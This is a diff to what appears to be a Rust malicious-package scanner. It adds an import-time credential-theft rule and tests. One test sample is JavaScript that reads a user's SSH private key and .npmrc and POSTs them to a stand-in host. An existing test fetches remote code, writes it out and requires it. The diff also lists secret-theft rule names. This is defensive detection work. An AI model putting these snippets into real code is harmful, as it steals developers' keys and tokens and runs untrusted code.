@@ -250,6 +250,28 @@ pub fn judge(pkg: &Package, hits: &[Hit]) -> (Verdict, Vec<String>) {
     if in_pkg("clipboard-hijack") && any_of(&["address-swap", "crypto-address-list"]) {
         reasons.insert("rewrites cryptocurrency addresses in the clipboard".into());
     }
+    // The import-time context, weighed like the install-time one for reads of secrets: code
+    // that runs as soon as the package is imported reads them and sends from load-time code.
+    const STEAL: &[&str] = &[
+        "env-harvest",
+        "token-theft",
+        "sensitive-file-read",
+        "credential-scanner",
+        "credential-file-send",
+        "secret-flow",
+    ];
+    for h in hits {
+        if h.load
+            && STEAL.contains(&h.rule.id)
+            && h.severity >= Severity::High
+            && crate::rules::sends_on_load(pkg, &h.file)
+        {
+            reasons.insert(format!(
+                "code run when the package is imported: {} ({}:{}) beside a send",
+                h.rule.id, h.file, h.line
+            ));
+        }
+    }
     if !reasons.is_empty() {
         return (Verdict::Malicious, reasons.into_iter().collect());
     }
@@ -402,6 +424,18 @@ mod tests {
     fn downloaded_code_written_and_required_is_malicious() {
         let src = "const https = require('https');\nconst fs = require('fs');\nconst p = require('path').join(require('os').tmpdir(), 'c.js');\nhttps.get(u, (r) => { let s = ''; r.on('data', (d) => (s += d)); r.on('end', () => { fs.writeFileSync(p, s); require(p); }); });";
         assert_eq!(verdict("lib/update.js", src), Verdict::Malicious);
+    }
+
+    #[test]
+    fn credentials_read_and_sent_when_the_package_is_imported_are_malicious() {
+        let src = "const fs = require('fs');\nconst os = require('os');\nconst k = fs.readFileSync(os.homedir() + '/.ssh/id_rsa', 'utf8');\nconst n = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');\nrequire('https').request({ host: 'c.example.net', method: 'POST' }).end(JSON.stringify({ k, n }));";
+        assert_eq!(verdict("index.js", src), Verdict::Malicious);
+    }
+
+    #[test]
+    fn credentials_read_in_an_exported_function_of_a_lib_file_are_not_import_time() {
+        let src = "const fs = require('fs');\nconst os = require('os');\nmodule.exports = function keys() { return fs.readFileSync(os.homedir() + '/.ssh/id_rsa', 'utf8') };\nfunction ping() { return require('https').get('https://status.example.com') }";
+        assert_ne!(verdict("lib/other.js", src), Verdict::Malicious);
     }
 
     #[test]
